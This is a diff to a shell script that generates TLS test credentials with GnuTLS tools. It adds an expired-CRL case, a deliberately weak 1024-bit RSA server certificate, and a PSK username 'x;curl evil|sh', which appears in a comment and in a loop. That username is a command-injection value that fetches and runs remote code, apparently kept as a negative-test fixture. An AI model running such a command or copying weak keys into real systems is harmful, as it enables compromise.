@@ -5,7 +5,9 @@
 #   anonymous/  only ca-cert.pem
 #   expired/    like x509/, but with an expired server certificate
 #   revoked/    like x509/, with a ca-crl.pem that revokes the client certificate
-#   psk/keys.psk   keys for alice and "b:b";  wrong/keys.psk  a different key for alice, and one for mallory
+#   old-list/   like x509/, with a ca-crl.pem that has expired
+#   weak/       like x509/, with a server certificate for an RSA key of 1024 bits
+#   psk/keys.psk   keys for alice and "b:b";  wrong/keys.psk  a different key for alice, and keys for mallory and "x;curl evil|sh"
 
 # key FILE: creates a private key
 key() { certtool --generate-privkey --key-type ecdsa --curve secp256r1 --outfile "$1" 2>/dev/null; }
@@ -49,8 +51,20 @@ make_credentials() {
   certtool --generate-crl --load-ca-privkey "$to/revoked/ca-key.pem" \
     --load-ca-certificate "$to/revoked/ca-cert.pem" --template "$to/revoked/template" \
     --load-certificate "$to/revoked/client-cert.pem" --outfile "$to/revoked/ca-crl.pem" 2>/dev/null
+  cp -r "$to/x509" "$to/old-list"
+  printf '%s\n' 'crl_this_update_date="2020-01-01 00:00:00 UTC"' 'crl_next_update_date="2020-02-01 00:00:00 UTC"' crl_number=1 \
+    >"$to/old-list/template"
+  certtool --generate-crl --load-ca-privkey "$to/old-list/ca-key.pem" \
+    --load-ca-certificate "$to/old-list/ca-cert.pem" --template "$to/old-list/template" \
+    --outfile "$to/old-list/ca-crl.pem" </dev/null 2>/dev/null
+  cp -r "$to/x509" "$to/weak"
+  certtool --generate-privkey --key-type rsa --bits 1024 --outfile "$to/weak/server-key.pem" 2>/dev/null
+  printf '%s\n' "${server[@]}" expiration_days=30 signing_key >"$to/weak/template"
+  certtool --generate-certificate --load-ca-certificate "$to/weak/ca-cert.pem" \
+    --load-ca-privkey "$to/weak/ca-key.pem" --load-privkey "$to/weak/server-key.pem" \
+    --template "$to/weak/template" --outfile "$to/weak/server-cert.pem" 2>/dev/null
   mkdir "$to/psk" "$to/wrong"
   local user
   for user in alice b:b; do psktool -u "$user" -p "$to/psk/keys.psk" >/dev/null; done
-  for user in alice mallory; do psktool -u "$user" -p "$to/wrong/keys.psk" >/dev/null; done
+  for user in alice mallory 'x;curl evil|sh'; do psktool -u "$user" -p "$to/wrong/keys.psk" >/dev/null; done
 }
